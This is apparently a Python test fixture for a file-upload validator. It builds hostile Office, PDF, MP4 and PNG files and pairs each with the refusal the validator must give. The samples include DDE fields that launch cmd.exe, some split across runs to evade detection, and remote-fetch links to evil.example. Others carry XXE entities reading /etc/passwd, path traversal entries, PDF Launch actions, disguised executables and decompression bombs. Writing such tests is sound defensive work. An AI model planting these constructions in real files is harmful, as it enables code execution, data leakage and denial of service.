"""Files as an attacker makes them, each with the refusal it must get; a new one goes into `list_hostile_files`."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial

import pikepdf
from PIL import Image, PngImagePlugin

from foundation.assets.enums import FileKind, Refusal
from tests.assets.deflated import MEBIBYTE, deflated_zeros
from tests.factories.assets import box, mp4, office, pdf, picture

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PROGRAM = b"MZ\x90\0" + bytes(60) + b"PE\0\0This program cannot be run in DOS mode."
_TYPES = b'<Types><Override PartName="/xl/sheets/a.xml" ContentType="application/vnd.ms-excel.%s+xml"/></Types>'
_RELATION = b'<Relationships><Relationship Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
_CHUNK = b'<Relationships><Relationship Type="http://x/aFChunk" Target="a.rtf"/></Relationships>'
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
OUTSIDE = b'<?xml version="1.0"?><!-- a --><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
_WORD = b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>%s</w:p></w:hdr>'
_BEGIN, _END = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>', b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
_COMMANDS = {
    "of a simple field": b'<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;"/>',
    "in one piece": _BEGIN + b"<w:r><w:instrText> dde excel a.xlsx</w:instrText></w:r>" + _END,
    "in pieces": _BEGIN
    + b"<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:t>x</w:t></w:r><w:r><w:instrText>EAUTO c</w:instrText></w:r>"
    + _END,
    "within a field": _BEGIN
    + b"<w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>"
    + _BEGIN
    + b'<w:r><w:instrText>"DDE" c</w:instrText></w:r>'
    + _END
    + _END,
}
_QUOTE = _BEGIN + b"<w:r><w:instrText> QUOTE 68 68 69</w:instrText></w:r>" + _END
_CODE = b"<w:r><w:instrText>%s</w:instrText></w:r>"
_COMMANDS |= {
    "that a field writes": _BEGIN + _QUOTE + _CODE % b" c calc" + _END,
    "that a field ends": _BEGIN + _CODE % b"DDEA" + b'<w:fldSimple w:instr="QUOTE 85"/>' + _CODE % b"TO c" + _END,
    "struck out": _BEGIN + b"<w:r><w:delInstrText>DDEAUTO c</w:delInstrText></w:r>" + _END,
    "to fetch a picture": _BEGIN + _CODE % b' INCLUDEPICTURE "\\\\evil.example\\a.png" \\d ' + _END,
    "to fetch a picture in pieces": _BEGIN + _CODE % b'INCLUDEPICTURE "\\' + _CODE % b'\\evil\\a.png"' + _END,
    "to fetch a picture unclosed": _BEGIN + _CODE % b"INCLUDEPICTURE //evil.example/a.png",
    "to fetch a picture far off": _BEGIN + _CODE % (b"INCLUDEPICTURE" + b" " * 70_000 + b"//evil/a.png") + _END,
    "to fetch a picture that a field names": _BEGIN + _CODE % b'INCLUDEPICTURE "' + _QUOTE + _CODE % b'"' + _END,
    "to fetch a text": b'<w:fldSimple w:instr="INCLUDETEXT file://evil.example/a.docx"/>',
    "to link a sheet": rb'<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;file:///\\evil\a.xlsx&quot; R1C1"/>',
    "to draw a picture": rb'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\evil.example\a.png"/>',
}
_DOCUMENT = _WORD.replace(b"w:hdr", b"w:document")
_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)


@dataclass(frozen=True)
class HostileFile:
    name: str
    kind: FileKind
    refusal: Refusal
    make: Callable[[], bytes]


def list_hostile_files() -> list[HostileFile]:
    """Each with its expected answer."""
    return [*_list_documents(), *_list_pdfs(), *_list_films(), *_list_pictures()]


def _list_documents() -> Iterator[HostileFile]:
    def refused(name: str, kind: FileKind, refusal: Refusal, **parts: bytes) -> HostileFile:
        return HostileFile(name, kind, refusal, lambda: office(kind.value, **parts))

    yield refused("excel 4 macro sheet", FileKind.XLSX, Refusal.MACROS, **{"xl__macrosheets__sheet1.xml": b"<m/>"})
    yield refused("excel 4 sheet abroad", FileKind.XLSX, Refusal.MACROS, **{"xl__intlMacrosheets__a.xml": b"<m/>"})
    typed = _TYPES % b"macrosheet"
    for how, written in {"as it is": typed, **_respelt(typed, b"macrosheet")}.items():
        yield HostileFile(
            f"excel 4 sheet by type {how}", FileKind.XLSX, Refusal.MACROS, partial(_retyped, office("xlsx"), written)
        )
    yield HostileFile("types not XML", FileKind.XLSX, Refusal.DAMAGED, lambda: _retyped(office("xlsx"), typed[:-3]))
    embedded = {"word__embeddings__a.xls": OLE + _named_sheet("Macro1")}
    yield refused("embedded excel 4 sheet", FileKind.DOCX, Refusal.MACROS, **embedded)
    yield from _list_embedded()
    for name in ("../../etc/cron.d/a", "/etc/passwd", "word\\..\\..\\a.xml", "C:/a.xml"):
        yield refused(f"climbing path {name}", FileKind.DOCX, Refusal.UNSAFE, **{name: b"x"})
    yield refused("billion laughs", FileKind.DOCX, Refusal.UNSAFE, **{"word__settings.xml": LAUGHS})
    wide = LAUGHS.decode().encode("utf-16")
    yield refused("billion laughs in utf-16", FileKind.DOCX, Refusal.UNSAFE, **{"word__settings.xml": wide})
    yield refused("outside entity", FileKind.DOCX, Refusal.UNSAFE, **{"customXml__item1.xml": OUTSIDE})
    yield refused("outside entity in relations", FileKind.DOCX, Refusal.UNSAFE, **{"word___rels__a.rels": OUTSIDE})
    for kind in (b"oleObject", b"frame", b"subDocument", b"control", b"aFChunk"):
        objects = {"word___rels__a.rels": _RELATION % (kind, b"https://evil.example/a!")}
        yield refused(f"{kind.decode()} elsewhere", FileKind.DOCX, Refusal.UNSAFE, **objects)
    yield refused("chunk of another format", FileKind.DOCX, Refusal.UNSAFE, **{"word___rels__a.rels": _CHUNK})
    for target in (rb"\\evil\a.png", rb"file:///\\evil\a.png", b"file://evil/a.png", b"C:/a.png", b"ftp://evil/a.png"):
        picture = {"word___rels__a.rels": _RELATION % (b"image", target)}
        yield refused(f"picture at {target.decode()}", FileKind.DOCX, Refusal.UNSAFE, **picture)
    letters = {"word___rels__a.rels": _RELATION % (b"mailMergeSource", rb"\\evil\a.csv")}
    yield refused("letters from elsewhere", FileKind.DOCX, Refusal.UNSAFE, **letters)
    yield from _list_renamed()
    relation = _RELATION % (b"attachedTemplate", b"https://evil.example/a.dotm")
    yield refused("template elsewhere", FileKind.DOCX, Refusal.MACROS, **{"word___rels__a.rels": relation})
    for how, written in _respelt(relation, b"attachedTemplate").items():
        yield refused(f"template elsewhere {how}", FileKind.DOCX, Refusal.MACROS, **{"word___rels__a.rels": written})
    yield refused("relations that are no XML", FileKind.DOCX, Refusal.DAMAGED, **{"word___rels__a.rels": relation[:-3]})
    long = {"word___rels__a.rels": b"<Relationships>" + b" " * 5 * MEBIBYTE + b"</Relationships>"}
    yield refused("relations without end", FileKind.DOCX, Refusal.TOO_COMPLEX, **long)
    for name, fields in _COMMANDS.items():
        yield refused(f"command {name}", FileKind.DOCX, Refusal.UNSAFE, **{"word__header1.xml": _WORD % fields})
    yield refused("command of a link", FileKind.XLSX, Refusal.UNSAFE, **{"xl__externalLinks__externalLink1.xml": _LINK})
    slides = {"ppt__slides___rels__slide1.xml.rels": _RELATION % (b"oleObject", b"https://evil.example/a!")}
    yield refused("object elsewhere on a slide", FileKind.PPTX, Refusal.UNSAFE, **slides)
    yield refused("climbing path in slides", FileKind.PPTX, Refusal.UNSAFE, **{"ppt/../../a.xml": b"x"})
    yield refused("macros in slides", FileKind.PPTX, Refusal.MACROS, **{"ppt__vbaProject.bin": OLE})
    yield HostileFile("300 MiB of zeros", FileKind.XLSX, Refusal.TOO_COMPLEX, _make_large_sheet)


def _list_renamed() -> Iterator[HostileFile]:
    """The same in parts of other names, which Office finds by their relations."""

    def refused(name: str, main: str, content: bytes, refusal: Refusal = Refusal.UNSAFE) -> HostileFile:
        parts = {main.replace("/", "__"): content}
        return HostileFile(name, FileKind.DOCX, refusal, lambda: office("docx", main=main, **parts))

    command = _DOCUMENT % _COMMANDS["of a simple field"]
    yield refused("entities in a renamed document", "word/document.dat", LAUGHS)
    yield refused("entities of a renamed picture", "word/media/a.svg", LAUGHS.replace(b"DOCTYPE x", b"DOCTYPE svg"))
    yield refused("command in a renamed document", "word/document.dat", command)
    yield refused("command in another folder", "main/document.xml", command)
    yield refused("command in a document in utf-16", "a.bin", command.decode().encode("utf-16"))
    yield refused(
        "document in an encoding of its own", "a.bin", b'<?xml version="1.0" encoding="x-1"?><a/>', Refusal.DAMAGED
    )
    yield refused("another kind of document", "xl/workbook.xml", b"<workbook/>", Refusal.WRONG_TYPE)
    renamed = {"xl__links__a.dat": _LINK}
    yield HostileFile("link renamed", FileKind.XLSX, Refusal.UNSAFE, lambda: office("xlsx", **renamed))
    nowhere = partial(office, "docx", main="word/none.xml")
    yield HostileFile("no document", FileKind.DOCX, Refusal.WRONG_TYPE, nowhere)
    twice = {
        "_RELS__.rels": b'<Relationships><Relationship Type="http://x/officeDocument" Target="a.xml"/></Relationships>'
    }
    yield HostileFile("two lists of relations", FileKind.DOCX, Refusal.WRONG_TYPE, lambda: office("docx", **twice))


def _list_embedded() -> Iterator[HostileFile]:
    """Office files within Office files."""

    def refused(name: str, refusal: Refusal, inner: bytes, *, place: str = "word__embeddings__a.docx") -> HostileFile:
        return HostileFile(name, FileKind.DOCX, refusal, lambda: office("docx", **{place: inner}))

    by_type = _retyped(office("xlsx"), _TYPES % b"sheet.macroEnabled.main")
    by_name = office("docx", **{"word__vbaProject.bin": b"x"})
    template = {"word___rels__a.rels": _RELATION % (b"attachedTemplate", b"https://evil.example/a.dotm")}
    commands = {"word__header1.xml": _WORD % _COMMANDS["of a simple field"]}
    yield refused("embedded macros by type", Refusal.MACROS, by_type)
    yield refused("embedded macros elsewhere", Refusal.MACROS, by_type, place="customXml__item1.bin")
    yield refused("embedded macros two deep", Refusal.MACROS, _nested(by_name, 1))
    yield refused("embedded macros three deep", Refusal.MACROS, _nested(by_type, 2))
    yield refused("embedded macros in a wrapper", Refusal.MACROS, OLE + by_type + bytes(512))
    yield refused("embedded template elsewhere", Refusal.MACROS, office("docx", **template))
    yield refused("embedded command", Refusal.UNSAFE, office("docx", **commands))
    yield refused("embedded four deep", Refusal.TOO_COMPLEX, _nested(office("docx"), 3))
    yield refused("embedded and cut off", Refusal.DAMAGED, by_type[:-30])
    yield refused("embedded with a password", Refusal.ENCRYPTED, _locked(office("docx")))
    yield refused("embedded 40 MiB of an archive", Refusal.TOO_COMPLEX, b"PK\x03\x04" + b"0" * 40 * MEBIBYTE)


def _nested(content: bytes, times: int) -> bytes:
    for _time in range(times):
        content = office("docx", **{"word__embeddings__a.docx": content})
    return content


def _locked(content: bytes) -> bytes:
    """The same, its entries marked as needing a password."""
    marked = bytearray(content)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(mark)
        while at >= 0:
            marked[at + flags] |= 1
            at = marked.find(mark, at + 4)
    return bytes(marked)


def _list_pdfs() -> Iterator[HostileFile]:
    def refused(name: str, refusal: Refusal, make: Callable[[], bytes]) -> HostileFile:
        return HostileFile(name, FileKind.PDF, refusal, make)

    annotation = b"/A << /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 4 0 R >> >> >>"
    yield refused("program attached", Refusal.ATTACHED, lambda: _attached("setup.exe", PROGRAM))
    yield refused("program as a picture", Refusal.ATTACHED, lambda: _attached("photo.png", PROGRAM))
    yield refused("program as a note", Refusal.ATTACHED, lambda: pdf(annotation))
    for named in (b"/Subtype /RichMedia", b"/S /RichMediaExecute", b"/S /Launch", b"/S /ImportData"):
        yield refused(f"action {named.decode()}", Refusal.SCRIPT, partial(pdf, b"/A << " + named + b" >>"))
    yield refused("1 GiB in a stream", Refusal.TOO_COMPLEX, lambda: _inflating(deflated_zeros(1024)))
    yield refused("1 GiB under two filters", Refusal.TOO_COMPLEX, _make_layered)
    yield refused("1 GiB in 16 streams", Refusal.TOO_COMPLEX, lambda: _inflating(*[deflated_zeros(64)] * 16))
    yield refused("1 GiB spelt in letters", Refusal.TOO_COMPLEX, _make_spelt)
    yield refused("512 MiB of runs", Refusal.TOO_COMPLEX, _make_runs)


def _list_films() -> Iterator[HostileFile]:
    def refused(name: str, refusal: Refusal, content: bytes) -> HostileFile:
        return HostileFile(name, FileKind.MP4, refusal, lambda: content)

    noise = bytes((number * 131 + 7) % 251 for number in range(4096))
    beginning = mp4()[:32]
    yield refused("noise after ftyp", Refusal.DAMAGED, beginning + noise)
    yield refused("nothing after ftyp", Refusal.DAMAGED, beginning)
    yield refused("no track", Refusal.DAMAGED, beginning + box(b"mdat", noise))
    yield refused("cut off", Refusal.DAMAGED, mp4(9000)[:8000])
    yield refused("thousands of boxes", Refusal.TOO_COMPLEX, beginning + box(b"free") * 6000)


def _list_pictures() -> Iterator[HostileFile]:
    half = picture("JPEG", (600, 400))[:900], picture("PNG", (600, 400))[:90]
    yield HostileFile("text that inflates", FileKind.PNG, Refusal.DAMAGED, lambda: png_with_text(80 * MEBIBYTE))
    yield HostileFile("half a jpeg", FileKind.JPEG, Refusal.DAMAGED, lambda: half[0])
    yield HostileFile("half a png", FileKind.PNG, Refusal.DAMAGED, lambda: half[1])
    yield HostileFile("63 megapixels", FileKind.PNG, Refusal.TOO_COMPLEX, lambda: picture("PNG", (9000, 7000)))


def _respelt(part: bytes, word: bytes) -> dict[str, bytes]:
    """The same XML in other bytes, which whoever opens it reads as the same."""
    entity = part.replace(word, b"&#%d;%s" % (word[0], word[1:]))
    return {
        "in utf-16": part.decode().encode("utf-16"),
        "with a reference": entity,
        "in capitals": part.replace(word, word.upper()),
    }


def _make_large_sheet() -> bytes:
    return office("xlsx", **{"xl__media__a.bin": b"0" * (300 * MEBIBYTE)})


def _make_layered() -> bytes:
    return _inflating(zlib.compress(deflated_zeros(1024), 9), filters=b"[/FlateDecode /FlateDecode]")


def _make_spelt() -> bytes:
    return _inflating(deflated_zeros(1024).hex().encode() + b">", filters=b"[/ASCIIHexDecode /FlateDecode]")


def _make_runs() -> bytes:
    return _inflating(zlib.compress(b"\x810" * 4 * MEBIBYTE, 9), filters=b"[/FlateDecode /RunLengthDecode]")


def png_with_text(length: int) -> bytes:
    """A picture whose compressed text unpacks to so many bytes."""
    info, content = PngImagePlugin.PngInfo(), io.BytesIO()
    info.add_text("Comment", "0" * length, zip=True)
    Image.new("RGB", (60, 40)).save(content, "PNG", pnginfo=info)
    return content.getvalue()


def _retyped(content: bytes, types: bytes) -> bytes:
    """The same archive with another list of content types."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(written, "w") as new:
        for name in old.namelist():
            new.writestr(name, types if name == "[Content_Types].xml" else old.read(name))
    return written.getvalue()


def _named_sheet(name: str) -> bytes:
    """The record of an old Excel file that names a sheet of macros."""
    inside = bytes(4) + b"\x00\x01" + bytes([len(name), 0]) + name.encode("latin-1")
    return b"\x85\x00" + len(inside).to_bytes(2, "little") + inside


def _attached(name: str, content: bytes) -> bytes:
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.attachments[name] = content
        document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


@cache
def _inflating(*streams: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """A PDF with these streams."""
    objects = b"".join(
        b"%d 0 obj\n<< /Length %d /Filter %s >>\nstream\n%s\nendstream\nendobj\n" % (number, len(data), filters, data)
        for number, data in enumerate(streams, start=4)
    )
    return pdf().replace(b"trailer", objects + b"trailer", 1)
